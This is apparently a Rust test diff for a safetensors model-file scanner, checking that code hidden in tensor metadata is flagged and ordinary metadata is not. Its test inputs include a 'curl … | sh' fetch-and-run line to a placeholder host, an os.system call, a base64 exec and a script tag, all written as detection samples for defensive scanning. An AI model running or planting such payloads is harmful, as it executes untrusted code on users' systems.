@@ -64,3 +64,21 @@ fn truncated_data_section_is_invalid() {
     let r = rules(&file(h, 8, b""));
     assert_eq!(r, vec!["SAFETENSORS-INVALID"]);
 }
+
+#[test]
+fn code_in_metadata_is_reported_ordinary_metadata_is_not() {
+    let tensor = r#""a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}"#;
+    for meta in [
+        r#"{"model_info":"import os; os.system('echo pwned')"}"#,
+        r#"{"x":"exec(base64.b64decode('aW1wb3J0IG9z'))"}"#,
+        r#"{"setup":"curl http://example.invalid/x | sh"}"#,
+        r#"{"card":"<script>alert(1)</script>"}"#,
+    ] {
+        let f = file(&format!(r#"{{"__metadata__":{meta},{tensor}}}"#), 4, b"");
+        assert_eq!(rules(&f), vec!["METADATA-CODE"], "{meta}");
+    }
+    // What real files carry: a format, a licence, training arguments, URLs.
+    let meta = r#"{"format":"pt","license":"apache-2.0","source":"https://huggingface.co/x/y","eval_steps":"500","evaluation":"exact match"}"#;
+    let f = file(&format!(r#"{{"__metadata__":{meta},{tensor}}}"#), 4, b"");
+    assert!(rules(&f).is_empty(), "{:?}", rules(&f));
+}
